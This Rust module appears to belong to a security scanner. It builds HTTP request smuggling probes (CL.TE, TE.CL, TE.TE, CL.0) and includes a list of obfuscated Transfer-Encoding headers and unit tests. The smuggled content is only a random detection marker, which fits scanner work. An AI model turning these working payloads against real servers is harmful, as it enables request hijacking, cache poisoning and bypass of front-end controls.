//! Raw smuggling payload construction.
//!
//! Requests are assembled byte by byte; header duplication and whitespace
//! obfuscation are the point, so no request serializer is used anywhere in
//! this module.

use rand::Rng;
use rand::distributions::Alphanumeric;

use crate::db::models::{IssueKind, ScanMode};

/// Smuggling family under test.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SmugglingKind {
    /// Front-end honors Content-Length, back-end honors Transfer-Encoding.
    ClTe,
    /// Front-end honors Transfer-Encoding, back-end honors Content-Length.
    TeCl,
    /// Both speak chunked, but obfuscation blinds one side.
    TeTe,
    /// Back-end ignores Content-Length entirely.
    Cl0,
}

impl SmugglingKind {
    pub fn issue(&self) -> IssueKind {
        match self {
            SmugglingKind::ClTe => IssueKind::HttpRequestSmugglingClTe,
            SmugglingKind::TeCl => IssueKind::HttpRequestSmugglingTeCl,
            SmugglingKind::TeTe => IssueKind::HttpRequestSmugglingTeTe,
            SmugglingKind::Cl0 => IssueKind::HttpRequestSmugglingCl0,
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            SmugglingKind::ClTe => "CL.TE",
            SmugglingKind::TeCl => "TE.CL",
            SmugglingKind::TeTe => "TE.TE",
            SmugglingKind::Cl0 => "CL.0",
        }
    }
}

/// One Transfer-Encoding obfuscation variant. The header field is spliced
/// into the request verbatim.
#[derive(Debug, PartialEq, Eq)]
pub struct TeObfuscation {
    pub name: &'static str,
    pub header: &'static str,
}

/// The full obfuscation library, exercised in fuzz mode.
pub const TE_OBFUSCATIONS: &[TeObfuscation] = &[
    TeObfuscation {
        name: "space-before-colon",
        header: "Transfer-Encoding : chunked",
    },
    TeObfuscation {
        name: "tab-value",
        header: "Transfer-Encoding:\tchunked",
    },
    TeObfuscation {
        name: "double-space",
        header: "Transfer-Encoding:  chunked",
    },
    TeObfuscation {
        name: "cr-prefixed",
        header: "X: X\rTransfer-Encoding: chunked",
    },
    TeObfuscation {
        name: "upper-case",
        header: "TRANSFER-ENCODING: CHUNKED",
    },
    TeObfuscation {
        name: "identity-list",
        header: "Transfer-Encoding: identity, chunked",
    },
    TeObfuscation {
        name: "duplicate-identity",
        header: "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    },
    TeObfuscation {
        name: "xchunked",
        header: "Transfer-Encoding: xchunked",
    },
    TeObfuscation {
        name: "line-folded",
        header: "Transfer-Encoding:\r\n chunked",
    },
];

/// Curated subset used outside fuzz mode. Tuning data, not contract.
pub const EFFECTIVE_TE_OBFUSCATIONS: &[&str] = &[
    "space-before-colon",
    "tab-value",
    "cr-prefixed",
    "duplicate-identity",
];

/// Obfuscations to exercise for a scan mode.
pub fn obfuscations_for_mode(mode: ScanMode) -> Vec<&'static TeObfuscation> {
    match mode {
        ScanMode::Fuzz => TE_OBFUSCATIONS.iter().collect(),
        _ => TE_OBFUSCATIONS
            .iter()
            .filter(|o| EFFECTIVE_TE_OBFUSCATIONS.contains(&o.name))
            .collect(),
    }
}

/// Fresh random markers for one attempt.
#[derive(Debug, Clone)]
pub struct Markers {
    /// Invalid HTTP method token.
    pub method: String,
    /// Random path component.
    pub path: String,
}

impl Markers {
    pub fn generate() -> Self {
        let mut rng = rand::thread_rng();
        let method: String = (0..8)
            .map(|_| rng.gen_range(b'A'..=b'Z') as char)
            .collect();
        let path: String = (&mut rng)
            .sample_iter(&Alphanumeric)
            .take(12)
            .map(|c| (c as char).to_ascii_lowercase())
            .collect();
        Self { method, path }
    }
}

/// A built payload plus the markers it embeds.
#[derive(Debug, Clone)]
pub struct SmugglingPayload {
    pub kind: SmugglingKind,
    pub obfuscation: Option<&'static str>,
    pub markers: Markers,
    pub bytes: Vec<u8>,
}

/// Build one payload with fresh markers.
pub fn build(
    host: &str,
    path: &str,
    kind: SmugglingKind,
    obfuscation: Option<&'static TeObfuscation>,
) -> SmugglingPayload {
    let markers = Markers::generate();
    let bytes = match kind {
        SmugglingKind::ClTe => build_cl_te(host, path, &markers, "Transfer-Encoding: chunked"),
        SmugglingKind::TeTe => build_cl_te(
            host,
            path,
            &markers,
            obfuscation.map(|o| o.header).unwrap_or(TE_OBFUSCATIONS[0].header),
        ),
        SmugglingKind::TeCl => build_te_cl(host, path, &markers),
        SmugglingKind::Cl0 => build_cl_0(host, path, &markers),
    };
    SmugglingPayload {
        kind,
        obfuscation: obfuscation.map(|o| o.name),
        markers,
        bytes,
    }
}

/// The prefix request that should surface in the second response.
fn smuggled_prefix(markers: &Markers) -> String {
    format!(
        "{} /{} HTTP/1.1\r\nX-Ignore: X",
        markers.method, markers.path
    )
}

/// CL.TE: Content-Length covers the whole body; a chunked parser stops at
/// the empty chunk and leaves the prefix for the next request.
fn build_cl_te(host: &str, path: &str, markers: &Markers, te_header: &str) -> Vec<u8> {
    let body = format!("0\r\n\r\n{}", smuggled_prefix(markers));
    format!(
        "POST {path} HTTP/1.1\r\n\
         Host: {host}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\n\
         {te_header}\r\n\
         \r\n\
         {body}",
        body.len()
    )
    .into_bytes()
}

/// TE.CL: the chunked body carries the smuggled request inside one chunk;
/// a Content-Length parser reads only the chunk-size line and leaves the
/// rest on the wire.
fn build_te_cl(host: &str, path: &str, markers: &Markers) -> Vec<u8> {
    let chunk = format!("{}\r\nX: y\r\n\r\n", smuggled_prefix(markers));
    let chunk_size = format!("{:x}", chunk.len());
    // Content-Length covers exactly the chunk-size line and its CRLF.
    let declared = chunk_size.len() + 2;
    format!(
        "POST {path} HTTP/1.1\r\n\
         Host: {host}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {declared}\r\n\
         Transfer-Encoding: chunked\r\n\
         \r\n\
         {chunk_size}\r\n\
         {chunk}\r\n\
         0\r\n\
         \r\n"
    )
    .into_bytes()
}

/// CL.0: the back-end ignores Content-Length, so the body is parsed as the
/// start of the next request.
fn build_cl_0(host: &str, path: &str, markers: &Markers) -> Vec<u8> {
    let body = format!("{}\r\n\r\n", smuggled_prefix(markers));
    format!(
        "GET {path} HTTP/1.1\r\n\
         Host: {host}\r\n\
         Content-Length: {}\r\n\
         \r\n\
         {body}",
        body.len()
    )
    .into_bytes()
}

/// Minimal pipelined follow-up whose response carries the verdict.
pub fn follow_up(host: &str, path: &str) -> Vec<u8> {
    format!(
        "GET {path} HTTP/1.1\r\n\
         Host: {host}\r\n\
         Connection: close\r\n\
         \r\n"
    )
    .into_bytes()
}

/// The (kind, obfuscation) matrix for a scan mode.
pub fn payload_set(mode: ScanMode) -> Vec<(SmugglingKind, Option<&'static TeObfuscation>)> {
    let mut set = vec![
        (SmugglingKind::ClTe, None),
        (SmugglingKind::TeCl, None),
        (SmugglingKind::Cl0, None),
    ];
    for obfuscation in obfuscations_for_mode(mode) {
        set.push((SmugglingKind::TeTe, Some(obfuscation)));
    }
    set
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_cl_te_content_length_covers_body() {
        let payload = build("example.com", "/", SmugglingKind::ClTe, None);
        let text = String::from_utf8(payload.bytes.clone()).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let declared: usize = head
            .lines()
            .find(|l| l.starts_with("Content-Length:"))
            .and_then(|l| l.split(':').nth(1))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        assert_eq!(declared, body.len());
        assert!(body.starts_with("0\r\n\r\n"));
        assert!(body.contains(&payload.markers.method));
        assert!(body.contains(&payload.markers.path));
    }

    #[test]
    fn test_te_cl_declared_length_stops_at_chunk_size() {
        let payload = build("example.com", "/", SmugglingKind::TeCl, None);
        let text = String::from_utf8(payload.bytes.clone()).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let declared: usize = head
            .lines()
            .find(|l| l.starts_with("Content-Length:"))
            .and_then(|l| l.split(':').nth(1))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        // The declared length ends exactly after the chunk-size CRLF, so the
        // remainder begins with the smuggled method marker.
        let remainder = &body[declared..];
        assert!(remainder.starts_with(&payload.markers.method));
        assert!(text.trim_end_matches('\n').ends_with("0\r\n\r\n") || text.ends_with("0\r\n\r\n"));
    }

    #[test]
    fn test_te_te_uses_obfuscated_header() {
        let obf = &TE_OBFUSCATIONS[0];
        let payload = build("example.com", "/", SmugglingKind::TeTe, Some(obf));
        let text = String::from_utf8(payload.bytes).unwrap();
        assert!(text.contains(obf.header));
        assert_eq!(payload.obfuscation, Some("space-before-colon"));
    }

    #[test]
    fn test_markers_are_fresh_per_build() {
        let a = build("example.com", "/", SmugglingKind::ClTe, None);
        let b = build("example.com", "/", SmugglingKind::ClTe, None);
        assert_ne!(a.markers.method, b.markers.method);
        assert_ne!(a.markers.path, b.markers.path);
    }

    #[test]
    fn test_marker_method_is_invalid_token() {
        let markers = Markers::generate();
        assert_eq!(markers.method.len(), 8);
        assert!(markers.method.chars().all(|c| c.is_ascii_uppercase()));
        for known in ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"] {
            assert_ne!(markers.method, known);
        }
    }

    #[test]
    fn test_fuzz_mode_uses_full_obfuscation_set() {
        let fuzz = payload_set(ScanMode::Fuzz);
        let smart = payload_set(ScanMode::Smart);
        let fuzz_te_te = fuzz
            .iter()
            .filter(|(k, _)| *k == SmugglingKind::TeTe)
            .count();
        let smart_te_te = smart
            .iter()
            .filter(|(k, _)| *k == SmugglingKind::TeTe)
            .count();
        assert_eq!(fuzz_te_te, TE_OBFUSCATIONS.len());
        assert_eq!(smart_te_te, EFFECTIVE_TE_OBFUSCATIONS.len());
    }

    #[test]
    fn test_payloads_end_with_crlf_discipline() {
        for kind in [SmugglingKind::ClTe, SmugglingKind::TeCl, SmugglingKind::Cl0] {
            let payload = build("example.com", "/app", kind, None);
            let text = String::from_utf8(payload.bytes).unwrap();
            assert!(text.contains("\r\n\r\n"), "{kind:?} missing header terminator");
        }
    }
}
